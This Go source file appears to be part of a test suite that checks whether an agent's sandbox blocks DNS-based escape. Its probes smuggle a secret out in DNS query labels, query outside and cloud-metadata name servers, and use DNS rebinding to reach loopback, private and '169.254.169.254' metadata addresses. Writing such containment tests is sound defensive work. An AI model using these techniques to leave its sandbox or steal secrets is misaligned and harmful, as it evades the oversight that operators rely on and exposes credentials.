package main

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"net/netip"
	"strings"

	"agentops/test/escape/attempt"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// server is the name server that runs are told of.
var server = netip.MustParseAddrPort("198.19.255.252:53")

// question is a DNS query.
func question(name string, kind dnsmessage.Type) ([]byte, error) {
	parsed, err := dnsmessage.NewName(strings.TrimSuffix(name, ".") + ".")
	if err != nil {
		return nil, err
	}
	message := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 4242, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: parsed, Type: kind, Class: dnsmessage.ClassINET}},
	}
	return message.Pack()
}

// exchange asks a server by UDP and returns its answer.
func exchange(to netip.AddrPort, query []byte) (*dnsmessage.Message, error) {
	family, sa := sockaddr(to)
	fd, err := unix.Socket(family, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	defer unix.Close(fd)
	// Connected, as the C library's are.
	if err := unix.Connect(fd, sa); err != nil {
		return nil, err
	}
	if _, err := unix.Write(fd, query); err != nil {
		return nil, err
	}
	if !wait(fd, unix.POLLIN) {
		return nil, unix.ETIMEDOUT
	}
	buf := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, buf, 0)
	if err != nil {
		return nil, err
	}
	var answer dnsmessage.Message
	return &answer, answer.Unpack(buf[:n])
}

// lookUp returns the address that the run's resolver has for a name.
func lookUp(name string) (netip.Addr, error) {
	query, err := question(name, dnsmessage.TypeA)
	if err != nil {
		return netip.Addr{}, err
	}
	answer, err := exchange(server, query)
	if err != nil {
		return netip.Addr{}, err
	}
	for _, rr := range answer.Answers {
		if a, ok := rr.Body.(*dnsmessage.AResource); ok {
			return netip.AddrFrom4(a.A), nil
		}
	}
	return netip.Addr{}, fmt.Errorf("no address: %s", answer.RCode)
}

// ask puts a question to a server. It is blocked when it was the run's resolver
// that answered: with no address, or with one of its own.
func (t *try) ask(to netip.AddrPort, name string, kind dnsmessage.Type) verdict {
	query, err := question(name, kind)
	if err != nil {
		return t.silent("%v", err)
	}
	t.start()
	answer, err := exchange(to, query)
	if err != nil {
		if isErrno(err, unix.ETIMEDOUT) {
			return t.silent("no answer")
		}
		return t.blocked(err)
	}
	return t.judgeAnswer(answer)
}

func (t *try) judgeAnswer(answer *dnsmessage.Message) verdict {
	for _, rr := range answer.Answers {
		switch body := rr.Body.(type) {
		case *dnsmessage.AResource:
			if !netip.MustParsePrefix("198.18.0.0/15").Contains(netip.AddrFrom4(body.A)) {
				return t.reached("the answer is %s", netip.AddrFrom4(body.A))
			}
		case *dnsmessage.AAAAResource:
			if !netip.MustParsePrefix("fdfe:a6e2:6f70::/48").Contains(netip.AddrFrom16(body.AAAA)) {
				return t.reached("the answer is %s", netip.AddrFrom16(body.AAAA))
			}
		default:
			return t.reached("the answer is of type %s", rr.Header.Type)
		}
	}
	return t.say(attempt.Blocked, "%s by the run's resolver", strings.TrimPrefix(answer.RCode.String(), "RCode"))
}

// label is data to be carried out in a name; a name has room for 253 bytes.
func (t *try) label() string {
	return strings.ReplaceAll(attempt.Marker, ":", "-") + strings.ReplaceAll(t.name, "_", "-")
}

// nameProbes ask for names, and by them.
func nameProbes(stage *attempt.Stage) []probe {
	var list []probe
	asks := func(name string, to string, subject func(t *try) string, kind dnsmessage.Type) {
		list = append(list, probe{name: name, plain: true, record: attempt.Query, try: func(t *try) verdict {
			return t.ask(netip.MustParseAddrPort(to), subject(t), kind)
		}})
	}
	refused := func(t *try) string { return t.label() + "." + attempt.Refused }
	asks("dns-outside", "192.175.48.77:53", refused, dnsmessage.TypeA)
	asks("dns-host", netip.AddrPortFrom(netip.MustParseAddr(stage.Host4), 53).String(), refused, dnsmessage.TypeA)
	asks("dns-private", "10.0.0.2:53", refused, dnsmessage.TypeA)
	asks("dns-metadata", "169.254.169.253:53", refused, dnsmessage.TypeA)
	asks("dns-outside6", "[2620:4f:8000::77]:53", refused, dnsmessage.TypeAAAA)
	asks("dns-txt", "192.175.48.77:53", refused, dnsmessage.TypeTXT)
	asks("dns-null", "192.175.48.77:53", refused, 10)
	asks("dns-any", "192.175.48.77:53", refused, dnsmessage.TypeALL)
	asks("dns-https", "192.175.48.77:53", refused, 65)
	asks("dns-mx", "192.175.48.77:53", refused, dnsmessage.TypeMX)
	asks("dns-ns", "192.175.48.77:53", refused, dnsmessage.TypeNS)
	asks("dns-axfr", "192.175.48.77:53", refused, dnsmessage.TypeAXFR)
	asks("dns-ptr", "192.175.48.77:53", func(*try) string { return "77.48.175.192.in-addr.arpa" }, dnsmessage.TypePTR)
	asks("dns-labels", server.String(), func(t *try) string {
		secret := hex.EncodeToString([]byte(t.stage.Secret))
		return clip(secret, 60) + "." + refused(t)
	}, dnsmessage.TypeA)
	asks("dns-long", server.String(), func(t *try) string {
		return strings.Repeat(strings.Repeat("x", 60)+".", 3) + refused(t)
	}, dnsmessage.TypeA)
	asks("dns-below-allowed", server.String(), func(t *try) string { return t.label() + "." + attempt.Allowed }, dnsmessage.TypeA)
	asks("dns-allowed-txt", server.String(), func(*try) string { return attempt.Allowed }, dnsmessage.TypeTXT)
	asks("dns-case", server.String(), func(t *try) string { return strings.ToUpper(refused(t)) }, dnsmessage.TypeA)
	asks("dns-single", server.String(), func(t *try) string { return t.label() }, dnsmessage.TypeA)
	list = append(list,
		probe{name: "dns-tcp", plain: true, record: attempt.Flow, try: func(t *try) verdict {
			return t.askTCP(netip.AddrPortFrom(outside4, 53), refused(t))
		}},
		probe{name: "dns-class", plain: true, record: attempt.Query, try: func(t *try) verdict {
			// The class of the server's own data.
			query, err := question(refused(t), dnsmessage.TypeTXT)
			if err != nil {
				return t.silent("%v", err)
			}
			query[len(query)-1] = 3
			t.start()
			answer, err := exchange(netip.AddrPortFrom(outside4, 53), query)
			if err != nil {
				return t.blocked(err)
			}
			return t.judgeAnswer(answer)
		}},
		probe{name: "dns-response", plain: true, record: attempt.Query, try: func(t *try) verdict {
			// What passes for an answer is none to be relayed. Nobody is told so.
			query, err := question(refused(t), dnsmessage.TypeA)
			if err != nil {
				return t.silent("%v", err)
			}
			query[2] |= 0x80
			t.start()
			if _, err := exchange(netip.AddrPortFrom(outside4, 53), query); isErrno(err, unix.ETIMEDOUT) {
				return verdict{attempt.Blocked, "dropped, as answers are that nobody asked for", 0}
			} else if err != nil {
				return t.blocked(err)
			}
			return t.reached("it was answered")
		}},
		probe{name: "dot", plain: true, record: attempt.Flow, try: func(t *try) verdict {
			return t.hello(at4(853), "dns."+attempt.Refused, "dot")
		}},
		probe{name: "doh", record: attempt.Flow, try: func(t *try) verdict {
			return t.https("dns."+attempt.Refused, "dns."+attempt.Refused, "/dns-query?dns=AAABAAAB")
		}},
		probe{name: "mdns", plain: true, try: func(t *try) verdict { return t.group("224.0.0.251:5353") }},
		probe{name: "llmnr", plain: true, try: func(t *try) verdict { return t.group("224.0.0.252:5355") }},
		probe{name: "netbios", plain: true, record: attempt.Refusal, try: func(t *try) verdict {
			return t.datagram(at4(137), unix.SOCK_DGRAM, 0, t.payload())
		}},
	)
	// An allowed name that leads where no name may, in every spelling.
	for _, r := range []struct{ name, to string }{
		{"loopback", "127.0.0.1"}, {"loopback-other", "127.9.9.9"}, {"any", "0.0.0.0"}, {"private-10", "10.0.0.1"},
		{"private-172", "172.31.0.1"}, {"private-192", "192.168.1.1"}, {"shared", "100.64.0.1"}, {"ec2", "169.254.169.254"},
		{"ecs", "169.254.170.2"}, {"azure", "168.63.129.16"}, {"alibaba", "100.100.100.200"}, {"broadcast", "255.255.255.255"},
		{"multicast", "224.0.0.1"}, {"host", stage.Host4}, {"6-loopback", "::1"}, {"6-any", "::"},
		{"6-mapped", "::ffff:127.0.0.1"}, {"6-mapped-ec2", "::ffff:169.254.169.254"}, {"6-compatible", "::127.0.0.1"},
		{"6-nat64", "64:ff9b::169.254.169.254"}, {"6-6to4", "2002:a9fe:a9fe::1"}, {"6-link", "fe80::1"}, {"6-ula", "fd00::1"},
		{"6-ec2", "fd00:ec2::254"}, {"6-multicast", "ff02::1"}, {"6-site", "fec0::1"}, {"6-host", stage.Host6},
		{"6-nat64-local", "64:ff9b:1::a9fe:a9fe"}, {"6-teredo", "2001:0:a9fe:a9fe::1"},
	} {
		if r.to == "" {
			continue
		}
		bytes := netip.MustParseAddr(r.to).AsSlice()
		name := "a-" + hex.EncodeToString(bytes) + "." + attempt.Rebound
		list = append(list, probe{name: "to-" + r.name, record: attempt.Flow, try: func(t *try) verdict {
			return t.get(name, name, "/latest/meta-data/")
		}})
	}
	for i := range list {
		list[i].class = "names"
	}
	return list
}

// askTCP asks by TCP, where each message has its length before it.
func (t *try) askTCP(to netip.AddrPort, name string) verdict {
	query, err := question(name, dnsmessage.TypeA)
	if err != nil {
		return t.silent("%v", err)
	}
	t.start()
	answer, err := t.talk(to, append(binary.BigEndian.AppendUint16(nil, uint16(len(query))), query...), func(got []byte) bool {
		return len(got) >= 2 && len(got) >= 2+int(binary.BigEndian.Uint16(got))
	})
	if err != nil {
		return t.blocked(err)
	}
	var message dnsmessage.Message
	if len(answer) < 2 || message.Unpack(answer[2:]) != nil {
		return t.silent("the answer is no message: %q", answer)
	}
	return t.judgeAnswer(&message)
}
